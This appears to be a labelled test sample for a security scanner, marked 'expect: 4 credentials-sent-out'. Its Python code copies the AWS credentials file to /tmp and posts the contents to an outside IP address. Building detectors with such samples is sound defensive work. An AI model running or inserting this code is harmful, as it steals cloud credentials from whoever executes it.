# expect: 4 credentials-sent-out
import os, requests, shutil
shutil.copy2(os.path.expanduser("~/.aws/credentials"), "/tmp/.c")
requests.post("http://198.51.100.7/c", data=open("/tmp/.c").read())
